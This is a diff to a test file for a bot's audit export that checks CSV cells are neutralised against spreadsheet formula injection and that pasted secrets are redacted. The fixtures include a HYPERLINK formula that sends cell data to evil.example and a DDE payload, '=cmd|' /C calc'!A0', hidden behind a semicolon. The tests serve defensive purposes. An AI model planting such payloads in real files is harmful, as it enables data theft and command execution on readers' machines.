@@ -27,7 +27,9 @@ const MINUTE = 60_000;
 const TRICKY_REASON = 'customer wrote: "delete it, now"\nline two\r\nline three';
 const FORMULA_REASON = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
 const DENY_REASON = '-1, not without a ticket';
-const PASTED_TOKEN_REASON = `pasted ${SECRETS.SLACK_BOT_TOKEN} by mistake`;
+const PASTED_TOKEN_REASON = `pasted ${SECRETS.SLACK_BOT_TOKEN} by mistake in a test`;
+/** The audit's bypass: a cell of its own, starting with `=`, for a spreadsheet that splits on `;`. */
+const SEMICOLON_REASON = "ticket 42;=cmd|' /C calc'!A0";
 const DELETED: DeletionOutcome = {
   ok: true,
   kind: 'deleted',
@@ -98,7 +100,7 @@ async function seed(store: Store): Promise<void> {
     { closedBy: 'UDEN', closedFrom: 'C0ELSEWHERE', closeReason: DENY_REASON, finishedAt: denied + MINUTE },
     { kind: 'denied', actorId: 'UDEN', detail: DENY_REASON, at: denied + MINUTE },
   );
-  const failed = await make(store, 'RFAILED', '2026-11-20T12:00:00.000Z', { reason: '@SUM(A1:A9)' });
+  const failed = await make(store, 'RFAILED', '2026-11-20T12:00:00.000Z', { reason: SEMICOLON_REASON });
   await store.addApproval('RFAILED', 'UAPP1', failed + MINUTE, 0);
   await execute(store, 'RFAILED', failed + 2 * MINUTE, FAILED);
   await make(store, 'RSECRET', '2026-11-21T08:00:00.000Z', { reason: PASTED_TOKEN_REASON });
@@ -154,11 +156,15 @@ async function postgresTarget(url: string): Promise<Target> {
     await store.close();
   }
   const cwd = fs.mkdtempSync(path.join(os.tmpdir(), 'bp-audit-pg-'));
+  // A test database's short password (the server trusts local connections and ignores it): it must not rewrite
+  // the word "test" in the reasons.
+  const withPassword = new URL(schema.databaseUrl);
+  withPassword.password = 'test';
   return {
-    env: { DATABASE_URL: schema.databaseUrl, ...SECRETS },
+    env: { DATABASE_URL: withPassword.toString(), ...SECRETS },
     cwd,
-    secrets: [...Object.values(SECRETS), schema.databaseUrl],
-    storeOnly: { DATABASE_URL: schema.databaseUrl },
+    secrets: [...Object.values(SECRETS), schema.databaseUrl, withPassword.toString()],
+    storeOnly: { DATABASE_URL: withPassword.toString() },
     cleanup: async () => {
       fs.rmSync(cwd, { recursive: true, force: true });
       await schema.drop();
@@ -240,7 +246,9 @@ const CSV_HEADER = [
   'event_actor_id',
   'event_at',
   'event_detail',
-].join(',');
+]
+  .map((name) => `"${name}"`)
+  .join(',');
 
 const jsonLines = (stdout: string) => {
   expect(stdout.endsWith('\n')).toBe(true);
@@ -338,7 +346,7 @@ describe.each(TARGETS)('the audit export on %s', (_name, makeTarget) => {
     });
     const failed = rows.filter((r) => r.request_id === 'RFAILED');
     expect(failed[3]).toMatchObject({
-      reason: "'@SUM(A1:A9)",
+      reason: "ticket 42;'=cmd|' /C calc'!A0",
       state: 'failed',
       outcome_ok: 'false',
       outcome_kind: 'http_error',
@@ -350,9 +358,16 @@ describe.each(TARGETS)('the audit export on %s', (_name, makeTarget) => {
     for (const row of rows) {
       for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     }
+    // Opened in a locale whose list separator is `;` (or `,`), split without honouring quotes: no cell starts a
+    // formula, the audit's `;=cmd…` reason included.
+    for (const separator of [',', ';']) {
+      const cells = result.stdout.split('\r\n').flatMap((record) => record.split(separator));
+      expect(cells.some((cell) => cell.includes('cmd|'))).toBe(true);
+      for (const cell of cells) expect(cell.replace(/^"+/, '')).not.toMatch(/^[=+\-@\t\r]/);
+    }
 
     // A secret pasted into a reason is redacted like everywhere else the bot prints.
-    expect(rows.find((r) => r.request_id === 'RSECRET')?.reason).toBe('pasted [redacted] by mistake');
+    expect(rows.find((r) => r.request_id === 'RSECRET')?.reason).toBe('pasted [redacted] by mistake in a test');
   });
 
   it('JSON Lines: one request a line, with its events array and BotPenguin outcome', async () => {
@@ -425,7 +440,11 @@ describe.each(TARGETS)('the audit export on %s', (_name, makeTarget) => {
       'executing',
       'failed',
     ]);
-    expect(lines[3]).toMatchObject({ state: 'pending', reason: 'pasted [redacted] by mistake', outcome: null });
+    expect(lines[3]).toMatchObject({
+      state: 'pending',
+      reason: 'pasted [redacted] by mistake in a test',
+      outcome: null,
+    });
   });
 
   it('the window: --since is included, --until excluded, times may carry a zone; no --until runs to the newest', async () => {
